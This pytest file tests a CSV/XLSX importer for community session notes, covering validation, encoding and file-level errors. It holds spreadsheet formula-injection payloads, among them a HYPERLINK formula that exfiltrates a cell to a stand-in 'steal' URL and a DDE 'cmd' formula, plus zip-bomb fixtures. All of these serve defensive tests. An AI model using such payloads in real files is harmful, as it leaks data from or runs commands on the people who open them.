"""Tests for reading and validating bulk session-note imports (CSV and XLSX)."""

from __future__ import annotations

import csv
import io
import time
import zipfile
from collections import Counter
from collections.abc import Collection
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from app.reference import AUDIENCES, QUESTION_IDS
from app.sessions.importing import (
    IMPORT_COLUMNS,
    MAX_DATA_ROWS,
    MAX_UPLOAD_BYTES,
    ROW_KEY,
    ImportedPoint,
    ImportedSession,
    ImportFileError,
    ImportRejected,
    RowError,
    parse_session_rows,
    read_import_file,
    template_csv,
    template_xlsx,
)

ROOT = Path(__file__).resolve().parents[3]
AREAS = [
    "Belgrave",
    "Braunstone",
    "Beaumont Leys",
    "New Parks",
    "Saffron/Eyres Monsell",
    "Highfields",
    "St. Matthews",
    "City centre",
]
TODAY = date(2026, 11, 21)
AREA_LIST = ", ".join(AREAS)
AUDIENCE_LIST = (
    "Residents, Young people, Parents and families, People with lived experience, "
    "Professionals, Mixed"
)

BASE = {
    "session_ref": "BEL-01",
    "area": "Belgrave",
    "held_on": "14/03/2026",
    "venue": "Community centre",
    "audience": "residents",
    "participants": "20",
    "facilitator": "A Lead",
    "question": "why",
    "text": "Fear of being jumped",
}


def row(**changes: object) -> list[object]:
    """One data row in IMPORT_COLUMNS order, with some values changed."""
    values: dict[str, object] = {**BASE, **changes}
    return [values[column] for column in IMPORT_COLUMNS]


def csv_bytes(
    rows: list[list[object]], *, header: list[str] | None = None, bom: bool = False
) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(header if header is not None else IMPORT_COLUMNS)
    writer.writerows(rows)
    data = buffer.getvalue().encode("utf-8")
    return b"\xef\xbb\xbf" + data if bom else data


def xlsx_bytes(rows: list[list[object]], *, header: list[str] | None = None) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(header if header is not None else list(IMPORT_COLUMNS))
    for values in rows:
        sheet.append(values)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def parse(
    rows: list[dict[str, str]], allowed_areas: Collection[str] | None = None
) -> list[ImportedSession]:
    return parse_session_rows(rows, area_names=AREAS, allowed_areas=allowed_areas, today=TODAY)


def rejected(
    rows: list[list[object]], allowed_areas: Collection[str] | None = None
) -> list[RowError]:
    with pytest.raises(ImportRejected) as info:
        parse(read_import_file(csv_bytes(rows), "notes.csv"), allowed_areas)
    return info.value.errors


def file_error(data: bytes, filename: str) -> str:
    with pytest.raises(ImportFileError) as info:
        read_import_file(data, filename)
    return info.value.message


# --- Valid files -------------------------------------------------------------------------


def test_valid_csv_is_grouped_into_sessions_in_first_seen_order() -> None:
    data = csv_bytes(
        [
            row(question="what_where", text="Trouble by the shops"),
            row(
                session_ref="HIG-01",
                area="Highfields",
                held_on="2026-04-02",
                venue="Mosque community room",
                audience="Young people",
                participants="12",
                facilitator="B Lead",
                question="help",
                text="- Youth club open late",
            ),
            row(question="impact", text="\"I don't sleep until he's home\""),
        ]
    )
    sessions = parse(read_import_file(data, "notes.csv"))
    assert sessions == [
        ImportedSession(
            session_ref="BEL-01",
            area="Belgrave",
            held_on=date(2026, 3, 14),
            venue="Community centre",
            audience="residents",
            participants=20,
            facilitator="A Lead",
            points=[
                ImportedPoint("what_where", "Trouble by the shops", 2),
                ImportedPoint("impact", "\"I don't sleep until he's home\"", 4),
            ],
            row=2,
        ),
        ImportedSession(
            session_ref="HIG-01",
            area="Highfields",
            held_on=date(2026, 4, 2),
            venue="Mosque community room",
            audience="young_people",
            participants=12,
            facilitator="B Lead",
            points=[ImportedPoint("help", "Youth club open late", 3)],
            row=3,
        ),
    ]


def test_read_csv_returns_every_column_and_the_row_number() -> None:
    rows = read_import_file(csv_bytes([row()]), "notes.csv")
    assert rows == [{**BASE, ROW_KEY: "2"}]


def test_csv_with_bom_header_names_in_any_case_and_order() -> None:
    header = [
        " TEXT ",
        "Question",
        "Session Ref",
        "area",
        "held-on",
        "Venue",
        "audience",
        "participants",
        "FACILITATOR",
    ]
    order = [
        "text",
        "question",
        "session_ref",
        "area",
        "held_on",
        "venue",
        "audience",
        "participants",
        "facilitator",
    ]
    data = csv_bytes([[BASE[column] for column in order]], header=header, bom=True)
    assert read_import_file(data, "notes.csv") == [{**BASE, ROW_KEY: "2"}]


def test_csv_quoted_fields_with_commas_quotes_and_newlines() -> None:
    text = 'They said "it\'s normal", then\nleft early,\r\nsadly'
    data = csv_bytes([row(text=text), row(text="Second point")])
    rows = read_import_file(data, "notes.csv")
    assert [(r["text"], r[ROW_KEY]) for r in rows] == [(text, "2"), ("Second point", "3")]
    sessions = parse(rows)
    assert [p.text for p in sessions[0].points] == [
        'They said "it\'s normal", then left early, sadly',
        "Second point",
    ]


def test_blank_rows_are_skipped_and_row_numbers_stay_as_seen() -> None:
    data = csv_bytes([row(), [], ["", "", ""], row(area="Nowhere")])
    rows = read_import_file(data, "notes.csv")
    assert [r[ROW_KEY] for r in rows] == ["2", "5"]
    with pytest.raises(ImportRejected) as info:
        parse(rows)
    assert [(e.row, e.column) for e in info.value.errors] == [(5, "area")]


def test_windows_path_and_upper_case_extension_are_accepted() -> None:
    rows = read_import_file(csv_bytes([row()]), "C:\\Users\\lead\\Notes.CSV")
    assert len(rows) == 1


def test_valid_xlsx_with_dates_numbers_and_labels() -> None:
    data = xlsx_bytes(
        [
            row(held_on=datetime(2026, 3, 14), participants=20, area="st matthews"),
            row(held_on=date(2026, 3, 14), participants=20.0, area="ST. MATTHEWS", text="Two"),
        ]
    )
    rows = read_import_file(data, "notes.xlsx")
    assert [(r["held_on"], r["participants"], r[ROW_KEY]) for r in rows] == [
        ("2026-03-14", "20", "2"),
        ("2026-03-14", "20", "3"),
    ]
    sessions = parse(rows)
    assert len(sessions) == 1
    assert (sessions[0].area, sessions[0].held_on, sessions[0].participants) == (
        "St. Matthews",
        date(2026, 3, 14),
        20,
    )
    assert [p.text for p in sessions[0].points] == ["Fear of being jumped", "Two"]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click here")',
        "+1+1",
        "-1+1",
        "@SUM(A1:A2)",
        "=cmd|' /C calc'!A0",
    ],
)
def test_xlsx_formula_cells_are_imported_as_text_never_evaluated(text: str) -> None:
    rows = read_import_file(xlsx_bytes([row(text=text)]), "notes.xlsx")
    assert rows[0]["text"] == text
    assert parse(rows)[0].points == [ImportedPoint("why", text, 2)]


def test_xlsx_formula_in_a_number_column_is_not_calculated() -> None:
    rows = read_import_file(xlsx_bytes([row(participants="=10+10")]), "notes.xlsx")
    assert rows[0]["participants"] == "=10+10"
    with pytest.raises(ImportRejected) as info:
        parse(rows)
    assert info.value.errors == [
        RowError(2, "participants", "Enter how many people took part as a whole number, like 12")
    ]


def test_xlsx_only_first_sheet_is_read() -> None:
    workbook = Workbook()
    first = workbook.active
    assert first is not None
    first.append(list(IMPORT_COLUMNS))
    first.append(row())
    other = workbook.create_sheet("Other")
    other.append(["nonsense", "columns"])
    other.append(["x", "y"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert read_import_file(buffer.getvalue(), "notes.xlsx") == [{**BASE, ROW_KEY: "2"}]


def test_xlsx_blank_rows_skipped_and_row_numbers_kept() -> None:
    data = xlsx_bytes([row(), [None] * 9, [], row(venue="Other hall")])
    rows = read_import_file(data, "notes.xlsx")
    assert [r[ROW_KEY] for r in rows] == ["2", "5"]


# --- Templates ---------------------------------------------------------------------------


def test_template_csv_has_bom_header_and_two_valid_examples() -> None:
    data = template_csv()
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[0] == ",".join(IMPORT_COLUMNS)
    assert len(lines) == 3
    sessions = parse(read_import_file(data, "template.csv"))
    assert [(s.session_ref, s.area, len(s.points)) for s in sessions] == [
        ("EXAMPLE-01", "Belgrave", 2)
    ]


def test_template_csv_uses_the_first_given_area() -> None:
    sessions = parse(read_import_file(template_csv(area_names=["Highfields"]), "t.csv"))
    assert sessions[0].area == "Highfields"


def test_template_xlsx_has_guidance_and_imports_cleanly() -> None:
    data = template_xlsx(area_names=AREAS)
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["Sessions", "Guidance"]
    guidance_values = {c.value for r in workbook["Guidance"].iter_rows() for c in r}
    assert set(QUESTION_IDS) <= guidance_values
    assert set(AUDIENCES) <= guidance_values
    assert set(AREAS) <= guidance_values
    sessions = parse(read_import_file(data, "template.xlsx"))
    assert [(s.session_ref, s.held_on, s.participants, len(s.points)) for s in sessions] == [
        ("EXAMPLE-01", date(2026, 3, 14), 18, 2)
    ]


# --- Row validation ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("changes", "column", "message"),
    [
        ({"session_ref": ""}, "session_ref", "Enter the session reference"),
        (
            {"session_ref": "R" * 101},
            "session_ref",
            "The session reference must be 100 characters or fewer (it is 101)",
        ),
        ({"area": ""}, "area", f"Enter the area. Area must be one of: {AREA_LIST}"),
        ({"area": "Narnia"}, "area", f'Area must be one of: {AREA_LIST} (not "Narnia")'),
        ({"held_on": ""}, "held_on", "Enter the date the session was held, like 14/03/2026"),
        ({"held_on": "soon"}, "held_on", "Enter a date, like 14/03/2026 (day, month, year)"),
        (
            {"held_on": "13/25/2026"},
            "held_on",
            "13/25/2026 isn't a real date. Enter a date, like 14/03/2026",
        ),
        (
            {"held_on": "03/25/2026"},
            "held_on",
            "03/25/2026 looks like a month-first (US-style) date. Put the day first, "
            "like 14/03/2026",
        ),
        (
            {"held_on": "31/02/2026"},
            "held_on",
            "31/02/2026 isn't a real date. Enter a date, like 14/03/2026",
        ),
        (
            {"held_on": "23/11/2026"},
            "held_on",
            "The date is in the future. Enter the date the session was held",
        ),
        (
            {"held_on": "01/01/1999"},
            "held_on",
            "Check the year: 01/01/1999 is too long ago. Enter a date, like 14/03/2026",
        ),
        ({"venue": "  "}, "venue", "Enter the venue"),
        ({"venue": "v" * 201}, "venue", "The venue must be 200 characters or fewer (it is 201)"),
        (
            {"audience": ""},
            "audience",
            f"Enter who took part. Audience must be one of: {AUDIENCE_LIST}",
        ),
        (
            {"audience": "teenagers"},
            "audience",
            f'Audience must be one of: {AUDIENCE_LIST} (not "teenagers")',
        ),
        ({"participants": ""}, "participants", "Enter how many people took part, like 12"),
        (
            {"participants": "lots"},
            "participants",
            "Enter how many people took part as a whole number, like 12",
        ),
        (
            {"participants": "2.5"},
            "participants",
            "Enter how many people took part as a whole number, like 12",
        ),
        ({"participants": "0"}, "participants", "Participants must be between 1 and 10,000"),
        ({"participants": "10001"}, "participants", "Participants must be between 1 and 10,000"),
        ({"facilitator": ""}, "facilitator", "Enter the facilitator's name"),
        (
            {"facilitator": "f" * 201},
            "facilitator",
            "The facilitator's name must be 200 characters or fewer (it is 201)",
        ),
        (
            {"question": ""},
            "question",
            "Enter the question. Question must be one of: what_where, why, impact, help",
        ),
        (
            {"question": "solutions"},
            "question",
            'Question must be one of: what_where, why, impact, help (not "solutions")',
        ),
        ({"text": ""}, "text", "Enter the point that was made"),
        ({"text": " - "}, "text", "Enter the point that was made"),
        ({"text": "\x01\x02"}, "text", "Enter the point that was made"),
        (
            {"text": "x" * 2001},
            "text",
            "The point must be 2,000 characters or fewer (it is 2,001). Split it into separate "
            "rows",
        ),
    ],
)
def test_each_validation_error_names_row_and_column(
    changes: dict[str, str], column: str, message: str
) -> None:
    assert rejected([row(), row(**changes)]) == [RowError(3, column, message)]


def test_all_errors_in_all_rows_are_reported_at_once_in_row_then_column_order() -> None:
    errors = rejected(
        [
            row(area="Narnia", participants="lots"),
            row(),
            row(session_ref="X", question="other", held_on="yesterday", text=""),
        ]
    )
    assert [(e.row, e.column) for e in errors] == [
        (2, "area"),
        (2, "participants"),
        (4, "held_on"),
        (4, "question"),
        (4, "text"),
    ]


@pytest.mark.parametrize(
    ("changes", "column", "shown"),
    [
        ({"area": "Highfields"}, "area", "Belgrave"),
        ({"held_on": "2026-03-15"}, "held_on", "14/03/2026"),
        ({"venue": "Library"}, "venue", "Community centre"),
        ({"audience": "mixed"}, "audience", "Residents"),
        ({"participants": "21"}, "participants", "20"),
        ({"facilitator": "Someone Else"}, "facilitator", "A Lead"),
    ],
)
def test_rows_of_one_session_must_agree(changes: dict[str, str], column: str, shown: str) -> None:
    errors = rejected([row(), row(text="Second"), row(text="Third", **changes)])
    assert errors == [
        RowError(
            4,
            column,
            f'Every row for session BEL-01 must have the same {column}: row 2 has "{shown}"',
        )
    ]


def test_equivalent_spellings_within_a_session_agree() -> None:
    rows = read_import_file(
        csv_bytes(
            [
                row(),
                row(
                    session_ref=" bel-01 ",
                    area="BELGRAVE",
                    held_on="2026-03-14",
                    venue="community  CENTRE",
                    audience="Residents",
                    participants="20",
                    text="Second",
                ),
            ]
        ),
        "notes.csv",
    )
    sessions = parse(rows)
    assert [(s.session_ref, s.venue, len(s.points)) for s in sessions] == [
        ("BEL-01", "Community centre", 2)
    ]


def test_allowed_areas_refuses_other_areas() -> None:
    errors = rejected(
        [row(), row(session_ref="HIG-01", area="Highfields")],
        allowed_areas=["Highfields", "St. Matthews"],
    )
    assert errors == [
        RowError(
            2,
            "area",
            "You can only import sessions for your areas (Highfields, St. Matthews)",
        )
    ]


def test_allowed_areas_accepts_own_areas() -> None:
    rows = read_import_file(csv_bytes([row(area="highfields")]), "notes.csv")
    assert parse(rows, allowed_areas=["Highfields"])[0].area == "Highfields"


@pytest.mark.parametrize(
    ("raw", "canonical"),
    [
        ("st matthews", "St. Matthews"),
        ("St Matthews", "St. Matthews"),
        ("Saffron / Eyres Monsell", "Saffron/Eyres Monsell"),
        ("saffron eyres-monsell", "Saffron/Eyres Monsell"),
        ("CITY CENTRE", "City centre"),
        ("  beaumont   leys ", "Beaumont Leys"),
    ],
)
def test_area_matching_ignores_case_punctuation_and_spacing(raw: str, canonical: str) -> None:
    rows = read_import_file(csv_bytes([row(area=raw)]), "notes.csv")
    assert parse(rows)[0].area == canonical


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("2026-03-14", date(2026, 3, 14)),
        ("2026-03-14 00:00:00", date(2026, 3, 14)),
        ("14/03/2026", date(2026, 3, 14)),
        ("4/3/2026", date(2026, 3, 4)),
        ("14-03-2026", date(2026, 3, 14)),
        ("14.03.26", date(2026, 3, 14)),
        ("14 March 2026", date(2026, 3, 14)),
        ("14th Mar 2026", date(2026, 3, 14)),
        ("Saturday 14 March 2026", date(2026, 3, 14)),
        ("March 14, 2026", date(2026, 3, 14)),
        ("22/11/2026", date(2026, 11, 22)),  # one day ahead is allowed
    ],
)
def test_accepted_date_formats(raw: str, expected: date) -> None:
    rows = read_import_file(csv_bytes([row(held_on=raw)]), "notes.csv")
    assert parse(rows)[0].held_on == expected


@pytest.mark.parametrize(
    ("raw", "key"),
    [
        ("residents", "residents"),
        ("Young people", "young_people"),
        ("YOUNG_PEOPLE", "young_people"),
        ("parents and families", "parents_families"),
        ("Parents & families", "parents_families"),
        ("People with lived experience", "lived_experience"),
        ("professionals", "professionals"),
        ("Mixed", "mixed"),
    ],
)
def test_audience_by_key_or_label(raw: str, key: str) -> None:
    rows = read_import_file(csv_bytes([row(audience=raw)]), "notes.csv")
    assert parse(rows)[0].audience == key


@pytest.mark.parametrize(
    ("raw", "number"), [("12", 12), (" 1,200 ", 1200), ("7.0", 7), ("10000", 10000)]
)
def test_participants_whole_numbers(raw: str, number: int) -> None:
    rows = read_import_file(csv_bytes([row(participants=raw)]), "notes.csv")
    assert parse(rows)[0].participants == number


@pytest.mark.parametrize(("raw", "question"), [("What where", "what_where"), (" HELP ", "help")])
def test_question_ids_are_matched_loosely(raw: str, question: str) -> None:
    rows = read_import_file(csv_bytes([row(question=raw)]), "notes.csv")
    assert parse(rows)[0].points[0].question == question


def test_text_is_cleaned_and_bullet_stripped() -> None:
    text = "1.  Older\tlads\x00 give\r\nthem   things\x1b to hold  "
    assert (
        parse([{**BASE, "text": text}])[0].points[0].text == "Older lads give them things to hold"
    )


def test_text_of_exactly_the_limit_is_accepted() -> None:
    rows = read_import_file(csv_bytes([row(text="x" * 2000)]), "notes.csv")
    assert parse(rows)[0].points[0].text == "x" * 2000


def test_rows_without_row_key_are_numbered_from_two() -> None:
    rows = [{**BASE}, {**BASE, "area": "Nowhere"}]
    with pytest.raises(ImportRejected) as info:
        parse(rows)
    assert [(e.row, e.column) for e in info.value.errors] == [(3, "area")]


def test_parse_with_no_rows_is_a_file_error() -> None:
    with pytest.raises(ImportFileError):
        parse([])


def test_ten_thousand_rows_parse_quickly() -> None:
    rows = [
        row(session_ref=f"S{i // 25}", text=f"Point {i} about the park and the underpass")
        for i in range(10_000)
    ]
    data = csv_bytes(rows)
    start = time.perf_counter()
    sessions = parse(read_import_file(data, "notes.csv"))
    elapsed = time.perf_counter() - start
    assert len(sessions) == 400
    assert sum(len(s.points) for s in sessions) == 10_000
    assert elapsed < 1.0


# --- File-level problems -----------------------------------------------------------------


def test_empty_file() -> None:
    assert "The file is empty" in file_error(b"", "notes.csv")
    assert "The file is empty" in file_error(b"\xef\xbb\xbf\r\n \r\n", "notes.csv")


def test_header_only_csv_and_xlsx() -> None:
    assert "header row but no data" in file_error(csv_bytes([]), "notes.csv")
    assert "header row but no data" in file_error(csv_bytes([[""] * 9]), "notes.csv")
    assert "header row but no data" in file_error(xlsx_bytes([]), "notes.xlsx")


def test_missing_columns_are_listed() -> None:
    header = [c for c in IMPORT_COLUMNS if c not in ("venue", "text")]
    message = file_error(csv_bytes([], header=header), "notes.csv")
    assert "these columns are missing: venue, text" in message


def test_extra_columns_are_refused() -> None:
    header = [*IMPORT_COLUMNS, "Notes"]
    message = file_error(csv_bytes([[*row(), "x"]], header=header), "notes.csv")
    assert "these columns aren't part of the import and must be removed: notes" in message


def test_duplicate_columns_are_refused() -> None:
    header = [*IMPORT_COLUMNS, "Text"]
    message = file_error(csv_bytes([[*row(), "x"]], header=header), "notes.csv")
    assert "these columns appear more than once: text" in message


def test_no_header_row() -> None:
    message = file_error(csv_bytes([row()], header=[str(v) for v in row()]), "notes.csv")
    assert message.startswith("Row 1 should be the header row")


def test_semicolon_separated_file() -> None:
    data = (";".join(IMPORT_COLUMNS) + "\r\n" + ";".join(map(str, row()))).encode()
    assert "semicolons" in file_error(data, "notes.csv")


def test_blank_heading_with_empty_column_is_fine_but_data_under_it_is_not() -> None:
    header = [*IMPORT_COLUMNS, ""]
    assert len(read_import_file(csv_bytes([[*row(), ""]], header=header), "n.csv")) == 1
    with pytest.raises(ImportRejected) as info:
        read_import_file(csv_bytes([[*row(), "stray"]], header=header), "n.csv")
    assert info.value.errors == [
        RowError(2, "", "This row has a value in a column with no heading.")
    ]


def test_row_with_more_cells_than_headings() -> None:
    data = csv_bytes([row(), [*row(), "spilled, text"]])
    with pytest.raises(ImportRejected) as info:
        read_import_file(data, "notes.csv")
    assert [(e.row, e.column) for e in info.value.errors] == [(3, "")]
    assert "more cells than there are column headings" in info.value.errors[0].message


def test_non_utf8_csv_says_which_line_and_how_to_fix() -> None:
    data = csv_bytes([row(), row(text="Costs £5 to get in")]).replace(
        "£".encode(), "£".encode("cp1252")
    )
    message = file_error(data, "notes.csv")
    assert message.startswith("Line 3 of the file has characters that aren't valid UTF-8")
    assert "CSV UTF-8" in message


def test_non_utf8_after_bom_counts_lines_correctly() -> None:
    data = b"\xef\xbb\xbf" + b"a\n\xe9"
    assert file_error(data, "notes.csv").startswith("Line 2 of the file")


def test_binary_garbage_named_csv() -> None:
    garbage = bytes(range(256)) * 40
    assert "doesn't look like a CSV file" in file_error(garbage, "notes.csv")


def test_nul_bytes_in_csv() -> None:
    data = csv_bytes([row(), row(text="bad\x00byte")])
    message = file_error(data, "notes.csv")
    assert "line 3 contains NUL (zero) bytes" in message


def test_utf16_csv() -> None:
    data = ",".join(IMPORT_COLUMNS).encode("utf-16")
    assert "UTF-16" in file_error(data, "notes.csv")


def test_xlsx_named_csv() -> None:
    assert "named .csv but it is an Excel workbook" in file_error(xlsx_bytes([row()]), "n.csv")


def test_csv_named_xlsx() -> None:
    assert "named .xlsx but it isn't an Excel workbook" in file_error(
        csv_bytes([row()]), "notes.xlsx"
    )


def test_old_excel_or_password_protected_xlsx() -> None:
    data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
    assert "password-protected" in file_error(data, "notes.xlsx")


def test_damaged_xlsx() -> None:
    data = xlsx_bytes([row()])
    assert "damaged" in file_error(data[: len(data) // 2], "notes.xlsx")


def test_zip_that_is_not_a_workbook() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("photo.txt", "hello")
    assert "not an Excel workbook" in file_error(buffer.getvalue(), "notes.xlsx")


def test_zip_bomb_total_size_is_refused_before_opening() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as member:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(101):
                member.write(chunk)
    data = buffer.getvalue()
    assert len(data) < 1024 * 1024
    assert "more than 100 MB once opened" in file_error(data, "bomb.xlsx")


def test_zip_bomb_compression_ratio_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/sharedStrings.xml", b"a" * (5 * 1024 * 1024))
    assert "expands more than 100 times" in file_error(buffer.getvalue(), "bomb.xlsx")


def test_zip_with_too_many_members_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for index in range(501):
            archive.writestr(f"xl/part{index}.xml", "<x/>")
    assert "too many parts" in file_error(buffer.getvalue(), "many.xlsx")


def test_oversized_file() -> None:
    data = csv_bytes([row()]) + b" " * MAX_UPLOAD_BYTES
    assert "The file is too big (10.0 MB)" in file_error(data, "notes.csv")


def test_too_many_rows() -> None:
    header = ",".join(IMPORT_COLUMNS) + "\n"
    line = ",".join(map(str, row())) + "\n"
    assert len(read_import_file((header + line * MAX_DATA_ROWS).encode(), "n.csv")) == 50_000
    message = file_error((header + line * (MAX_DATA_ROWS + 1)).encode(), "n.csv")
    assert message.startswith("The file has more than 50,000 rows of data")


def test_huge_field_is_a_clear_error() -> None:
    data = csv_bytes([row(), row(text="x" * 200_000)])
    assert file_error(data, "notes.csv").startswith(
        "Near line 3 of the file there is a single cell"
    )


def test_unclosed_quote_is_a_clear_error() -> None:
    data = csv_bytes([row()]) + b'BEL-01,Belgrave,14/03/2026,Hall,mixed,3,L,why,"unfinished'
    assert "quotation mark" in file_error(data, "notes.csv")


@pytest.mark.parametrize("filename", ["notes.txt", "notes", "notes.pdf"])
def test_unsupported_file_types(filename: str) -> None:
    assert file_error(csv_bytes([row()]), filename) == "Choose a .csv or .xlsx file."


def test_old_excel_extension_gets_a_save_as_message() -> None:
    assert "Files of type .xls can't be imported" in file_error(b"anything", "notes.xls")


# --- Demo and example files --------------------------------------------------------------


def test_demo_sessions_csv_parses_and_covers_every_area_and_audience() -> None:
    data = (ROOT / "app" / "demo" / "demo_sessions.csv").read_bytes()
    rows = read_import_file(data, "demo_sessions.csv")
    assert 350 <= len(rows) <= 450
    sessions = parse(rows)
    assert len(sessions) >= 16
    assert Counter(s.area for s in sessions) == {area: 2 for area in AREAS}
    assert {s.audience for s in sessions} == set(AUDIENCES)
    for session in sessions:
        assert date(2026, 1, 10) <= session.held_on <= date(2026, 10, 30)
        assert 6 <= session.participants <= 40
        per_question = Counter(p.question for p in session.points)
        assert set(per_question) == set(QUESTION_IDS), session.session_ref
        assert all(3 <= n <= 6 for n in per_question.values()), session.session_ref
    all_texts = [p.text for s in sessions for p in s.points]
    assert len(set(all_texts)) == len(all_texts)


def test_valid_example_file_imports() -> None:
    data = (ROOT / "docs" / "examples" / "valid_sessions.csv").read_bytes()
    sessions = parse(read_import_file(data, "valid_sessions.csv"))
    assert [(s.session_ref, s.area, len(s.points)) for s in sessions] == [
        ("EX-HIG-01", "Highfields", 7),
        ("EX-NP-01", "New Parks", 5),
    ]


def test_invalid_example_file_shows_row_level_errors() -> None:
    data = (ROOT / "docs" / "examples" / "invalid_sessions.csv").read_bytes()
    with pytest.raises(ImportRejected) as info:
        parse(read_import_file(data, "invalid_sessions.csv"))
    assert [(e.row, e.column) for e in info.value.errors] == [
        (4, "venue"),
        (5, "question"),
        (6, "area"),
        (6, "participants"),
        (7, "area"),
        (7, "participants"),
        (7, "text"),
        (8, "held_on"),
        (9, "held_on"),
        (9, "audience"),
        (10, "session_ref"),
    ]
